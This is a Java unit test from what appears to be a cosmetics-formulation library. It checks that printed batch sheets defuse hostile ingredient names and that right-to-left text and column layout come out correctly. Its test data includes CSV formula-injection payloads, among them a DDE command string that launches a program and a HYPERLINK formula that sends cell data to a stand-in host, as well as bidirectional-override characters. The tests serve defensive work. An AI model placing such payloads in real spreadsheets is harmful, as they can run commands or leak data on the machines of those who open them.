package io.github.formulationmath.sheet;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.formulationmath.batch.Batch;
import io.github.formulationmath.batch.BatchSize;
import io.github.formulationmath.csv.CsvWriter;
import io.github.formulationmath.document.Document;
import io.github.formulationmath.document.Format;
import io.github.formulationmath.formula.Formula;
import io.github.formulationmath.plan.WeighingPlan;
import io.github.formulationmath.reckoning.Phrase;
import io.github.formulationmath.reckoning.Wording;
import io.github.formulationmath.support.Cells;
import io.github.formulationmath.weighing.Balance;
import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;
import java.util.Properties;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Names of other people on a sheet: no formula for a spreadsheet, no turned line, no crooked column. */
class HostileSheetTest {

    private static WeighingPlan plan(String name) {
        return WeighingPlan.of(
                Batch.of(
                        Formula.inPercent("Lotion")
                                .quantitySufficient("Aqua")
                                .line(name, "3 %")
                                .build(),
                        BatchSize.ofMass("500 g")),
                Balance.of("0.1 g", "2 kg"));
    }

    private static String sheet(String name, Format format) {
        return BatchSheet.of(plan(name)).print(format);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(A1)",
                "\t=1",
                "  =1",
                "\u00a0=1",
                "\u200b=1",
                "\ufeff=1",
                "＝1+1",
                "'=1",
                "''=1",
                "'x",
                "'",
                "a;=1+1",
                "a;'=1",
                ";=1",
                "-2 g",
                "-2",
                "=HYPERLINK(\"http://a.example/?\"&A1,\"x\")",
                "plain, \"quoted\"",
                "Tween-20"
            })
    void no_cell_of_a_sheet_begins_a_formula_and_the_name_comes_back(String name) throws IOException {
        List<CSVRecord> records = Cells.read(sheet(name, Format.CSV));
        for (CSVRecord record : records) {
            for (String cell : record) {
                assertThat(cell).doesNotMatch(Cells.FORMULA);
                for (String part : cell.split("[;\\t\\r\\n]")) {
                    assertThat(part).doesNotMatch(Cells.FORMULA);
                }
            }
        }
        List<CSVRecord> lines =
                records.stream().filter(record -> record.size() == 8).toList();
        assertThat(CsvWriter.unguarded(lines.get(2).get(2))).isEqualTo(Document.clean(name));
    }

    /** A cell stands by itself: nothing beside it could be turned round. */
    @Test
    void letters_from_right_to_left_come_back_from_a_table_to_the_letter() throws IOException {
        assertThat(Cells.read(sheet("ماء الورد", Format.CSV)))
                .anyMatch(record -> record.size() == 8 && record.get(2).equals("ماء الورد"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"\u202eevil", "a\u202db", "\u2066x", "x\u2069y", "a\u202a\u202b\u202cb"})
    void no_mark_of_direction_gets_onto_a_page(String name) {
        for (Format format : List.of(Format.TEXT, Format.MARKDOWN, Format.HTML)) {
            assertThat(sheet(name, format))
                    .doesNotContainPattern("[\u202a-\u202e\u2066\u2067]")
                    .contains("\ufffd");
        }
    }

    @Test
    void letters_from_right_to_left_are_isolated() {
        for (Format format : List.of(Format.TEXT, Format.MARKDOWN, Format.HTML)) {
            assertThat(sheet("ماء الورد", format)).contains("\u2068ماء الورد\u2069");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"水", "甘油と水", "글리세린", "e\u0301le\u0301mi", "ماء الورد", "a\u200bb"})
    void columns_line_up_whatever_the_letters(String name) {
        List<Integer> widths = sheet(name, Format.TEXT)
                .lines()
                .filter(row -> row.startsWith("[ ]"))
                .map(Cells::columnsByHand)
                .toList();
        assertThat(widths).hasSize(2).containsOnly(widths.get(0));
    }

    @Test
    void the_language_of_a_page_is_that_of_its_wording() throws IOException {
        Properties words = new Properties();
        for (String key : Wording.english().keys()) {
            words.setProperty(key, Wording.english().text(Phrase.of(key)));
        }
        words.setProperty("language", "de");
        StringWriter file = new StringWriter();
        words.store(file, null);
        Wording german = Wording.read(new StringReader(file.toString()));
        String sheet = BatchSheet.of(plan("x"), german).print(Format.HTML);
        assertThat(sheet).contains("<html lang=\"de\">");
        assertThat(sheet("x", Format.HTML)).contains("<html lang=\"en\">");
    }
}
